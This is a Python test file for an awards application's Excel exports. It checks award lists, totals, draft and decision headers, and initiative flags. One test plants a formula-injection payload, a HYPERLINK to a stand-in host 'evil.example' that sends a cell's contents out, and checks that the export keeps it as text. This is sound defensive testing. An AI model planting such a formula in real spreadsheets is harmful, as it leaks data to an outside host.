"""The award list and the campaign summary as .xlsx."""

import io

from openpyxl import load_workbook

from awards import documents, selectors, xlsx
from awards.models import Dossier
from awards.summary import campaign_summary

from .conftest import advance, full_dossier


def rows(sheet):
    return [[c for c in row] for row in sheet.iter_rows(values_only=True)]


def test_award_list_has_collectives_individuals_amounts_and_the_total(rolled):
    full_dossier(rolled)
    context = documents.document_context(selectors.dossier_for_page(rolled.dossier.pk))
    book = load_workbook(io.BytesIO(xlsx.award_list_workbook(context)))
    sheet = book["Danh sách khen thưởng"]
    data = rows(sheet)
    flat = [v for row in data for v in row if v is not None]
    assert [1, "AAA", "BHXH cơ sở A", "Giải Nhất", 5_000_000] in [r[:5] for r in data]
    assert [5, "KHTC", "Phòng Kế hoạch - Tài chính", "Giải Ba", 2_000_000] in [r[:5] for r in data]
    assert rolled.people["AAA"][0].full_name in flat
    assert 18_000_000 in flat
    assert "Bằng chữ: Mười tám triệu đồng" in flat
    assert any("DỰ THẢO" in str(v) for v in flat)  # a draft says so
    individuals = [r for r in data if r[1] and str(r[1]).startswith("Nguyễn Văn")]
    assert len(individuals) == 8
    assert all(r[7] == 500_000 for r in individuals)


def test_summary_workbook_has_units_and_people(rolled):
    full_dossier(rolled)
    advance(rolled, rolled.dossier, Dossier.State.APPROVED)
    book = load_workbook(io.BytesIO(xlsx.summary_workbook(campaign_summary(rolled.campaign))))
    units = rows(book["Tập thể"])
    assert ["AAA", "BHXH cơ sở A", 1, 0, 0, 5_000_000, 3, 1_500_000, 6_500_000] in [r[:9] for r in units]
    people = rows(book["Cá nhân"])
    assert len(people) == 1 + 8 + 1  # the header, eight people, the total
    assert people[1][5] == 500_000
    assert people[-1][0] == "Tổng cộng" and people[-1][5] == 8 * 500_000


def test_text_that_looks_like_a_formula_stays_text(rolled):
    from awards import services

    line = rolled.dossier.lines.get(unit__code="AAA")
    trap = '=HYPERLINK("http://evil.example/x?"&A1,"Xem minh chứng")'
    services.individual_add(user=rolled.compiler, line=line, person=rolled.people["AAA"][0],
                            achievement=trap)
    context = documents.document_context(selectors.dossier_for_page(rolled.dossier.pk))
    sheet = load_workbook(io.BytesIO(xlsx.award_list_workbook(context)))["Danh sách khen thưởng"]
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == trap]
    assert cells and all(cell.data_type == "s" for cell in cells)


def test_a_decided_award_list_says_what_was_decided_and_by_which_decision(rolled):
    full_dossier(rolled)
    advance(rolled, rolled.dossier, Dossier.State.APPROVED)
    context = documents.document_context(selectors.dossier_for_page(rolled.dossier.pk))
    sheet = load_workbook(io.BytesIO(xlsx.award_list_workbook(context)))["Danh sách khen thưởng"]
    assert sheet["A1"].value == "DANH SÁCH TẬP THỂ, CÁ NHÂN ĐÃ QUYẾT ĐỊNH KHEN THƯỞNG – THÁNG 10/2025"
    assert sheet["A2"].value.startswith("Kèm theo Quyết định số 123/QĐ-BHXH ngày 05/11/2025")
    flat = [v for row in rows(sheet) for v in row if v is not None]
    assert not any("ĐỀ NGHỊ" in str(v) or "DỰ THẢO" in str(v) for v in flat)


def test_initiatives_read_yes_or_no_in_the_award_list(rolled):
    full_dossier(rolled)  # the last person of each collective has an initiative
    advance(rolled, rolled.dossier, Dossier.State.APPROVED)
    context = documents.document_context(selectors.dossier_for_page(rolled.dossier.pk))
    data = rows(load_workbook(io.BytesIO(xlsx.award_list_workbook(context)))["Danh sách khen thưởng"])
    individuals = [r for r in data if r[1] and str(r[1]).startswith("Nguyễn Văn")]
    assert sorted(r[5] for r in individuals) == ["Có"] * 5 + ["Không"] * 3
